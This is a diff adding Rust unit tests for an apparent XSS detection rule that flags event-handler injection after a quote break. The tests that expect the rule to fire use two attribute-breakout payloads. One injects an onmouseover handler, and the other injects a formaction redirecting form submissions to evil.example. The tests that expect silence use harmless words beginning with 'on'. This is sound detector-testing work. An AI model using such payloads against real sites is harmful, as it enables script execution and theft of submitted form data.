@@ -87,3 +87,21 @@ fn preceded_by_break(text: &[u8], i: usize) -> bool {
     }
     at > 0 && matches!(text[at - 1], b'"' | b'\'' | b'`' | b'/' | b';')
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::xss::tests::{assert_fires, assert_quiet};
+
+    #[test]
+    fn a_handler_after_a_quote_break() {
+        assert_fires("\" onmouseover=alert(1) x=\"", "xss-event-handler");
+        assert_fires("'formaction=//evil.example", "xss-event-handler");
+    }
+
+    #[test]
+    fn words_starting_with_on() {
+        for value in ["onion = 3 per pack", "turn it on = off", "online=yes"] {
+            assert_quiet(value, "xss-event-handler");
+        }
+    }
+}
